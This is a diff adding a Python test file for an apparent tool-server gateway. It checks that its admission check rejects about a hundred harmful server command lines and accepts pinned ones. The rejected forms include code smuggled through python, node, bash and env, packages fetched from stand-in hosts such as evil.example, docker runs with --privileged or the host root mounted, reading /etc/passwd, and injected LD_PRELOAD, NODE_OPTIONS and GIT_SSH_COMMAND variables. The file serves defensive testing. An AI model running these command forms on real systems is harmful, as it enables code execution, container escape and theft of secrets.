@@ -1,0 +1,329 @@
+"""Attacks by who describes a server: a caller of `/admin`, the author of a `server.json`, the author of a bundle.
+
+What is allowed is listed, for all three. The harmful forms are those that the first version of the check accepted, and
+their relatives. The real npx and uvx run against a registry that records every request.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any, Final
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.gateway.edge_lab import Edge, edge
+from toolway.config.admission.command_line import RUNNERS, check_command_line
+from toolway.config.settings import parse_gateway
+
+PYTHON: Final = sys.executable
+#: What a careless operator lists: runners and interpreters without a package or script.
+CARELESS: Final = {
+    "allowedCommands": [
+        *(
+            PYTHON,
+            "python3",
+            "node",
+            "npx",
+            "bunx",
+            "uvx",
+            "pipx",
+            "docker",
+            "deno",
+            "bun",
+            "ruby",
+            "perl",
+            "bash",
+            "env",
+        ),
+        *("uv", "/opt/tools/server"),
+    ],
+    "allowedEnv": ["TOKEN"],
+    "allowedVolumes": ["/srv/data"],
+}
+SHA: Final = "a" * 64
+
+
+@pytest.fixture
+async def gateway(tmp_path: Path) -> AsyncIterator[Edge]:
+    """A gateway without servers whose operator listed runners and interpreters by name only."""
+    policy = parse_gateway({"gateway": CARELESS}, {}).admission
+    async with edge(tmp_path, servers={}, admission=lambda: policy) as found:
+        yield found
+
+
+def command(*words: str, **more: Any) -> dict[str, Any]:
+    return {"command": words[0], "args": list(words[1:]), **more}
+
+
+TOUCH: Final = "open({marker!r}, 'w')"
+NODE_TOUCH: Final = "require('fs').writeFileSync({marker!r}, '')"
+HARMFUL: Final = {
+    "python-glued-code": command(PYTHON, f"-c{TOUCH}"),
+    "python-flag-before-code": command(PYTHON, "-W", "ignore", "-c", TOUCH),
+    "python-option-before-code": command(PYTHON, "-X", "dev", "-c", TOUCH),
+    "python-combined-flags": command(PYTHON, "-Ic", TOUCH),
+    "python-glued-module": command(PYTHON, "-mtimeit", "-n1", "-r1", TOUCH),
+    "python-module": command(PYTHON, "-m", "timeit", "-n1", "-r1", TOUCH),
+    "python-any-script": command(PYTHON, "{script}"),
+    "python-reads-stdin": command(PYTHON),
+    "python-script-in-folder": command(PYTHON, "script.py", cwd="{folder}"),
+    "node-title-before-code": command("node", "--title", "x", "-e", NODE_TOUCH),
+    "node-loader": command("node", "--experimental-loader", "data:text/javascript,1", "x.js"),
+    "node-import": command("node", "--import=data:text/javascript,1", "x.js"),
+    "npx-registry": command("npx", "--registry=http://127.0.0.1:9/", "a@1.0.0"),
+    "npx-registry-apart": command("npx", "--registry", "http://127.0.0.1:9/", "a@1.0.0"),
+    "npx-prefix-takes-the-package": command("npx", "--prefix", "x@1.0.0", "-c", "touch {marker}"),
+    "npx-call": command("npx", "-y", "-c", "touch {marker}"),
+    "npx-node-options": command("npx", "--node-options=--require={script}", "a@1.0.0"),
+    "npx-script-shell": command("npx", "--script-shell={script}", "a@1.0.0"),
+    "npx-userconfig": command("npx", "--userconfig={script}", "a@1.0.0"),
+    "npx-package": command("npx", "-p", "evil@1.0.0", "a@1.0.0"),
+    "npx-range": command("npx", "-y", "a@1.x"),
+    "npx-major": command("npx", "-y", "a@1"),
+    "npx-caret": command("npx", "-y", "a@^1.0.0"),
+    "npx-tag": command("npx", "-y", "a@latest"),
+    "npx-alias": command("npx", "-y", "a@npm:evil@1.0.0"),
+    "npx-github": command("npx", "-y", "github:evil/a"),
+    "npx-git": command("npx", "-y", "git+https://evil.example/a.git#1.0.0"),
+    "npx-tarball": command("npx", "-y", "https://evil.example/a-1.0.0.tgz"),
+    "npx-folder": command("npx", "-y", "./a@1.0.0"),
+    "npx-two-lines": command("npx", "-y", "a@1.0.0\n"),
+    "npx-nothing": command("npx"),
+    "npx-folder-with-npmrc": command("npx", "-y", "a@1.0.0", cwd="{folder}"),
+    "uvx-index-url": command("uvx", "--index-url=http://127.0.0.1:9/", "x==1.0"),
+    "uvx-index": command("uvx", "--index", "http://127.0.0.1:9/", "x==1.0"),
+    "uvx-find-links": command("uvx", "--find-links=http://127.0.0.1:9/", "x==1.0"),
+    "uvx-from-git": command("uvx", "--from", "git+https://evil.example/y", "y"),
+    "uvx-flag-takes-the-package": command(
+        "uvx", "--python-preference", "x==1.0", "--from", "git+https://evil.example/y", "y"
+    ),
+    "uvx-with-editable": command("uvx", "--with-editable={folder}", "x==1.0"),
+    "uvx-config-file": command("uvx", "--config-file={script}", "x==1.0"),
+    "uvx-python-path": command("uvx", "--python", "{script}", "x==1.0"),
+    "uvx-is-an-interpreter": command("uvx", "python@3.12.1", "-c", TOUCH),
+    "uvx-is-another-interpreter": command("uvx", "PyPy3.10@7.3.0", "-c", TOUCH),
+    "uvx-any-of-a-version": command("uvx", "x==1.*"),
+    "uvx-range": command("uvx", "x>=1.0"),
+    "uvx-url": command("uvx", "x@https://evil.example/x-1.0.whl"),
+    "pipx-install": command("pipx", "install", "x==1.0"),
+    "pipx-spec": command("pipx", "run", "--spec", "git+https://evil.example/x", "x==1.0"),
+    "pipx-index": command("pipx", "run", "--index-url=http://127.0.0.1:9/", "x==1.0"),
+    "pipx-script": command("pipx", "run", "https://evil.example/x.py"),
+    "bunx-flag": command("bunx", "--bun", "a@1.0.0"),
+    "docker-privileged": command("docker", "run", "--privileged", "x/y:1.0.0"),
+    "docker-volume-of-all": command("docker", "run", "-v", "/:/host", "x/y:1.0.0"),
+    "docker-glued-volume": command("docker", "run", "-v/:/host", "x/y:1.0.0"),
+    "docker-volume-below": command("docker", "run", "-v", "/srv/data/link:/host", "x/y:1.0.0"),
+    "docker-volume-dots": command("docker", "run", "-v", "/srv/data/../..:/host", "x/y:1.0.0"),
+    "docker-mount": command("docker", "run", "--mount", "type=bind,src=/,dst=/host", "x/y:1.0.0"),
+    "docker-mount-twice": command("docker", "run", "--mount", "type=bind,src=/srv/data,dst=/a,source=/", "x/y:1.0.0"),
+    "docker-pid": command("docker", "run", "--pid=host", "x/y:1.0.0"),
+    "docker-network": command("docker", "run", "--network", "host", "x/y:1.0.0"),
+    "docker-env-file": command("docker", "run", "--env-file", "/etc/passwd", "x/y:1.0.0"),
+    "docker-env-value": command("docker", "run", "-e", "LD_PRELOAD=/x.so", "x/y:1.0.0"),
+    "docker-env-of-the-gateway": command("docker", "run", "-e", "HOME", "x/y:1.0.0"),
+    "docker-entrypoint": command("docker", "run", "--entrypoint=/bin/sh", "x/y:1.0.0"),
+    "docker-latest": command("docker", "run", "x/y:latest"),
+    "docker-build": command("docker", "build", "https://evil.example/x.git"),
+    "docker-host": command("docker", "-H", "tcp://evil.example", "run", "x/y:1.0.0"),
+    "deno-url": command("deno", "run", "https://evil.example/x.ts"),
+    "deno-eval": command("deno", "eval", "1"),
+    "bun-eval": command("bun", "-e", "1"),
+    "ruby-code": command("ruby", "-e1"),
+    "perl-code": command("perl", "-e1"),
+    "bash-code": command("bash", "-c", "touch {marker}"),
+    "bash-option-before-code": command("bash", "-o", "posix", "-c", "touch {marker}"),
+    "env-starts-a-shell": command("env", "sh", "-c", "touch {marker}"),
+    "uv-runs-a-script": command("uv", "run", "https://evil.example/x.py"),
+    "not-listed": command("sh", "-c", "touch {marker}"),
+    "listed-name-elsewhere": command("/tmp/npx", "-y", "a@1.0.0"),
+    "variable-not-listed": command("/opt/tools/server", env={"OTHER": "x"}),
+    "variable-preload": command("/opt/tools/server", env={"LD_PRELOAD": "/x.so"}),
+    "variable-in-small-letters": command("/opt/tools/server", env={"ld_library_path": "/x"}),
+    "variable-home": command("npx", "-y", "a@1.0.0", env={"HOME": "{folder}"}),
+    "variable-path": command("npx", "-y", "a@1.0.0", env={"PATH": "{folder}"}),
+    "variable-npm": command("npx", "-y", "a@1.0.0", env={"npm_config_registry": "http://127.0.0.1:9/"}),
+    "variable-node": command("npx", "-y", "a@1.0.0", env={"NODE_OPTIONS": "--require {script}"}),
+    "variable-uv": command("uvx", "x==1.0", env={"UV_INDEX_URL": "http://127.0.0.1:9/"}),
+    "variable-uv-python": command("uvx", "x==1.0", env={"UV_PYTHON": "{script}"}),
+    "variable-pip": command("pipx", "run", "x==1.0", env={"PIP_INDEX_URL": "http://127.0.0.1:9/"}),
+    "variable-python": command("uvx", "x==1.0", env={"PYTHONPATH": "{folder}"}),
+    "variable-docker": command("docker", "run", "x/y:1.0.0", env={"DOCKER_HOST": "tcp://evil.example"}),
+    "variable-git": command("uvx", "x==1.0", env={"GIT_SSH_COMMAND": "touch {marker}"}),
+    "variable-proxy": command("uvx", "x==1.0", env={"HTTPS_PROXY": "http://127.0.0.1:9/"}),
+    "variable-certificates": command("uvx", "x==1.0", env={"SSL_CERT_FILE": "{script}"}),
+    "variable-ca": command("npx", "a@1.0.0", env={"AWS_CA_BUNDLE": "{script}"}),
+    "all-variables": command("/opt/tools/server", env_policy="inherit"),
+    "variables-of-a-file": command("/opt/tools/server", envFile="{script}"),
+    "variable-of-the-gateway": command("/opt/tools/server", env={"TOKEN": "${HOME}"}),
+    "secret-of-the-machine": command("/opt/tools/server", env={"TOKEN": "${keyring:github.token}"}),
+}
+
+
+@pytest.mark.anyio
+@pytest.mark.attack("B3")
+@pytest.mark.parametrize("form", HARMFUL)
+async def test_bring_code_into_a_server_that_is_added_through_admin(form: str, gateway: Edge, tmp_path: Path) -> None:
+    marker, script = tmp_path / "marker", tmp_path / "script.py"
+    script.write_text(f"open({str(marker)!r}, 'w')")
+    text = json.dumps(HARMFUL[form])
+    for name, value in (("marker!r", repr(str(marker))), ("marker", str(marker)), ("script", str(script))):
+        text = text.replace(f"{{{name}}}", json.dumps(value)[1:-1])
+    text = text.replace("{folder}", str(tmp_path))
+    answer = await gateway.ask("PUT", "/admin/servers/x", text.encode())
+    error = json.loads(answer.body)["error"]
+    assert (answer.status, error["code"]) == (422, "E-ADMISSION"), answer
+    assert error["detail"] and "toolway" in error["hint"]
+    assert gateway.hub.servers == {} and not marker.exists()
+
+
+HONEST: Final = {
+    "own-program": command("/opt/tools/server", "--port", "1", "-c", "x", env={"TOKEN": "x"}),
+    "npx": command("npx", "-y", "@scope/server@1.2.3", "-c", "for the server", "--registry=also"),
+    "npx-prerelease": command("npx", "--yes", "-q", "server@2.0.0-beta.1"),
+    "uvx": command("uvx", "mcp-server-time==1.4.0", "--local-timezone=UTC"),
+    "uvx-at": command("uvx", "--python", "3.12", "mcp-server-fetch[http]@2025.4.7"),
+    "pipx": command("pipx", "run", "name==1.0"),
+    "docker": command(
+        *("docker", "run", "--rm", "-i", "--init", "-e", "TOKEN", "--network", "none", "-v", "/srv/data:/data:ro"),
+        *("ghcr.io/owner/server:v1.2.3", "--privileged"),
+        env={"TOKEN": "x"},
+    ),
+    "docker-digest": command(
+        "docker", "run", "-i", "--mount", "type=bind,src=/srv/data,dst=/d,readonly", f"a@sha256:{SHA}"
+    ),
+    "url": {"url": "https://tools.example/mcp"},
+}
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("form", HONEST)
+async def test_what_the_operator_allowed_is_added(form: str, gateway: Edge) -> None:
+    answer = await gateway.ask("PUT", "/admin/servers/x", json.dumps({**HONEST[form], "lazy": True}).encode())
+    assert answer.status == 200, answer
+    assert list(gateway.hub.servers) == ["x"]
+
+
+@pytest.mark.attack("B3")
+@pytest.mark.parametrize(
+    ("line", "accepted", "rejected"),
+    [
+        ("python3 /opt/server.py", "python3 /opt/server.py -c x", "python3 /opt/other.py"),
+        ("python3 -m my_server", "python3 -m my_server", "python3 -m my_server more"),
+        ("npx -y name@1.2.3", "npx -y name@1.2.3 --any thing", "npx -y name@1.2.4"),
+        ("npx -y name", "npx -y name", "npx -y name --any thing"),
+        ("npx -y", "npx -y name@1.2.3", "npx -y"),
+        ("deno run --allow-net /opt/x.ts", "deno run --allow-net /opt/x.ts", "deno run --allow-net /opt/x.ts more"),
+        ("docker run -v /a:/a x/y:1.0.0", "docker run -v /a:/a x/y:1.0.0 more", "docker run -v /b:/b x/y:1.0.0"),
+        ("docker run --gpus all x/y", "docker run --gpus all x/y", "docker run --gpus all x/y:1.0.0"),
+        ("'/opt/my server' --safe", "'/opt/my server' --safe more", "'/opt/my server' --unsafe"),
+        ("/opt/server", "/opt/server any thing", "/opt/server2"),
+    ],
+)
+def test_stretch_a_command_line_that_the_operator_listed(line: str, accepted: str, rejected: str) -> None:
+    assert check_command_line(shlex.split(accepted), [line]) is None
+    rejection = check_command_line(shlex.split(rejected), [line])
+    assert rejection is not None and rejection.reason
+
+
+WORD = st.one_of(
+    st.sampled_from(
+        (
+            *(
+                "-y",
+                "--yes",
+                "-q",
+                "--quiet",
+                "--rm",
+                "-i",
+                "--init",
+                "run",
+                "-e",
+                "TOKEN",
+                "--network",
+                "none",
+                "--python",
+            ),
+            *(
+                "3.12",
+                "-v",
+                "/srv/data:/data",
+                "/:/host",
+                "--network=none",
+                "--python=3.12",
+                "--",
+                "-",
+                "-c",
+                "--registry",
+            ),
+            *(
+                "--registry=http://x",
+                "--from",
+                "name@1.2.3",
+                "name==1.2.3",
+                "@scope/name@1.2.3",
+                "name@1.x",
+                "name@latest",
+            ),
+            *("name", "git+https://x", "x/y:1.0.0", "python@3.12.1", "--mount", "type=bind,src=/srv/data,dst=/d", ""),
+        )
+    ),
+    st.text(max_size=12),
+    st.from_regex(r"-{0,2}[a-z]{1,8}(=[a-z0-9./:@]{0,8})?", fullmatch=True),
+    st.from_regex(r"(@[a-z]{1,3}/)?[a-z]{1,3}(@|==|:)[0-9x^~*.]{1,6}", fullmatch=True),
+)
+
+
+@pytest.mark.attack("B3")
+@settings(max_examples=150, deadline=None)
+@given(runner=st.sampled_from(sorted(RUNNERS)), words=st.lists(WORD, max_size=7))
+def test_find_a_command_line_of_a_runner_that_is_accepted_but_not_listed(runner: str, words: list[str]) -> None:
+    words = [*RUNNERS[runner].subcommand, *words]
+    accepted = check_command_line([runner, *words], [runner], volumes=["/srv/data"], variables=["TOKEN"]) is None
+    if accepted:
+        assert_only_listed_flags_and_one_package(runner, words)
+
+
+def assert_only_listed_flags_and_one_package(runner: str, words: list[str]) -> None:
+    """Check an accepted command line in another way than the code does: by consuming what is known, in order."""
+    rest = list(words)
+    if runner in ("pipx", "docker", "podman"):
+        assert rest.pop(0) == "run"
+    simple = {
+        "npx": ("-y", "--yes", "-q", "--quiet"),
+        "uvx": ("-q", "--quiet"),
+        "dnx": ("-y", "--yes"),
+        **dict.fromkeys(("docker", "podman"), ("--rm", "-i", "--interactive", "--init")),
+    }.get(runner, ())
+    while rest[0].startswith("-"):
+        word = rest.pop(0)
+        if word in simple:
+            continue
+        flag, _, value = word.partition("=")
+        value = value or rest.pop(0)
+        if flag == "--python":
+            assert runner == "uvx" and re.fullmatch(r"3\.\d+(\.\d+)?", value)
+            continue
+        assert runner in ("docker", "podman")
+        assert (flag, value) in {
+            *(("--network", "none"), ("-e", "TOKEN"), ("--env", "TOKEN")),
+            *(
+                ("-v", "/srv/data:/data"),
+                ("--volume", "/srv/data:/data"),
+                ("--mount", "type=bind,src=/srv/data,dst=/d"),
+            ),
+        }
+    package = rest.pop(0)
+    assert runner != "uvx" or not package.startswith("python@")
+    assert re.fullmatch(r"[@a-zA-Z0-9][\w./\[\],:-]*?(@|==|:v?|@sha256:)\d+(\.\d+){1,2}[\w.+-]*", package, re.ASCII), (
+        package
+    )
+    if runner == "dnx" and rest:
+        assert rest[0] == "--"
